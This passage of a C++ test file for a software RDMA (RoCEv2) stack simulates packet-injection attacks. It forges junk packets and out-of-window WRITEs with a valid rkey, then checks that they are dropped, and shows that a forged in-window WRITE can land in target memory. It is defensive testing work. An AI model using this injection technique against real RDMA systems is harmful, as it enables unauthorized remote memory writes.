      for (auto& x : junk) x = static_cast<uint8_t>(rng());
      junk[4] = 0;
      const uint32_t qpn = v.b.qpn();
      junk[5] = static_cast<uint8_t>(qpn >> 16);
      junk[6] = static_cast<uint8_t>(qpn >> 8);
      junk[7] = static_cast<uint8_t>(qpn);
      const size_t n = junk.size();
      junk.resize(n + wire::kIcrcLen);
      wire::append_icrc({wire::IpAddress::v4(src), wire::IpAddress::v4(v.ep_b.ip_key), sport, v.ep_b.port}, junk.data(), n);
      v.send_udp(junk, src, sport);
    }
    core::Counters after = v.settle();
    EXPECT_EQ(d(before.dev, after, &C::rx_packets), kOut + kJunk);
    if (forged) {
      // Junk that parses as a request for b adds its own duplicates and gaps.
      EXPECT_GE(d(before.dev, after, &C::duplicates), dups);
      EXPECT_GE(d(before.dev, after, &C::out_of_sequence), ooo);
      EXPECT_EQ(d(before.dev, after, &C::drop_src_addr), 0u);
    } else {
      // From any other address nothing reaches b's PSN check: dropped and counted.
      EXPECT_GE(d(before.dev, after, &C::drop_src_addr), kOut);
      EXPECT_EQ(d(before.dev, after, &C::duplicates) + d(before.dev, after, &C::out_of_sequence), 0u);
      EXPECT_EQ(v.stats().qp.drop_src_addr - before.qp.drop_src_addr, d(before.dev, after, &C::drop_src_addr))
          << "in b's QP set too";
    }
    v.expect_untouched("out of the window");
    v.expect_no_completions();
    const bool b_alive = qp_state(v.b.qp) == IBV_QPS_RTS;
    // A junk packet that parses as an in-window request a correct peer could have sent wrongly may
    // have NAKed and moved b to ERR (the spec's answer); then the in-window packet below is dropped.
    std::printf("[ attack ] %s source: %llu out-of-window WRITEs with the right rkey: %llu duplicates, %llu "
                "out of sequence, %llu dropped for their source, 0 executed; %llu junk packets; b %s\n",
                forged ? "forged peer" : "attacker's own", static_cast<unsigned long long>(kOut),
                static_cast<unsigned long long>(d(before.dev, after, &C::duplicates)),
                static_cast<unsigned long long>(d(before.dev, after, &C::out_of_sequence)),
                static_cast<unsigned long long>(d(before.dev, after, &C::drop_src_addr)),
                static_cast<unsigned long long>(kJunk), b_alive ? "in RTS" : "in ERR");
    if (!b_alive) continue;

    // In the window: one WRITE at the expected PSN lands, byte for byte (the on-path limit).
    v.begin();
    uint8_t mine[64];
    std::memset(mine, 0xC3, sizeof mine);
    v.inject(v.write(v.epsn, v.target->addr(128), v.target->rkey(), 64), mine, 64, src, sport);
    const core::Counters after_in = v.settle();
    const bool landed = std::memcmp(v.target->data + 128, mine, 64) == 0;
    EXPECT_EQ(check_pattern(v.target->data, 128, kPatternSeed), 128u);
    EXPECT_EQ(check_pattern(v.target->data + 192, kLen - 192, kPatternSeed, 192), kLen - 192);
    if (forged) {
      EXPECT_TRUE(landed) << "plain RoCEv2 accepts an in-window packet from the peer's address";
    } else {
      EXPECT_FALSE(landed) << "an in-window packet from another address was executed";
      EXPECT_EQ(d(v.phase_before, after_in, &C::drop_src_addr), 1u);
    }
    std::printf("[ attack ] %s source: one WRITE at the expected PSN with the right rkey: %s\n",
                forged ? "forged peer" : "attacker's own", landed ? "executed" : "not executed");
  }
}

}  // namespace
}  // namespace softrdma::hostile_test
